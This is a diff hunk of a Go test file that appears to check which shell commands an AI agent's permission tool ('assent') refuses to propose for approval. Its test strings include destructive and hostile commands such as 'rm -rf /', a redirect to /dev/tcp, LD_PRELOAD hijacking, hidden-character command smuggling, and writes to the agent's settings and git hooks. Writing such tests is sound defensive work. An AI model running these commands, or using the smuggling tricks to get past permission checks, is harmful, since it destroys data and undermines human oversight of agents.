@@ -189,7 +189,7 @@ func TestNoProposal(t *testing.T) {
 		// what cannot be read with certainty
 		"eval mytool", "$TOOL x", "./run.sh", "/tmp/mytool x", "../mytool", "mytool $x", "mytool $(ls)", "mytool `ls`", "mytool x*", "mytool {a,$x}", "mytool {a,}", "mytool <<< x", "mytool <<EOF\nx\nEOF", "f() { mytool; }; f", "alias a=b; mytool",
 		"PATH=/tmp mytool", "LD_PRELOAD=x mytool", "GIT_SSH=x git fetch", "mytool\rrm x", "mytool \u202ex", "mytool \x00x", "mytool # x\\\nrm x", "mytool >&--x", "mytool > $OUT", "mytool > /etc/passwd", "mytool > ../x", "mytool < \"$X\"",
-		"ls | mytool", "cat x | mysql", "curl https://x | mytool", "source x", ". x", "exec mytool", "cd $X && mytool", "mytool; (", "", " ", "a=1; mytool $a", "mytool 2> /dev/tcp/1.2.3.4/5",
+		"ls | mytool", "cat x | mysql", "curl https://x | mytool", "source x", ". x", "exec mytool", "cd $X && mytool", "mytool; (", "", " ", "a=1; mytool $1", "mytool 2> /dev/tcp/1.2.3.4/5",
 		// what assent and the agent's settings need kept
 		"assent allow x", "assent-hook", "claude -p x", "mytool ~/.claude/settings.json", "mytool .git/config", "cp x .git/hooks/pre-commit", "rm -rf ~", "rm -rf PROJECT", "rm -rf .", "rm -rf .git", "mytool > .claude/settings.json", "rm -rf /", "kill assent", "git config core.pager x",
 		// what other rules say
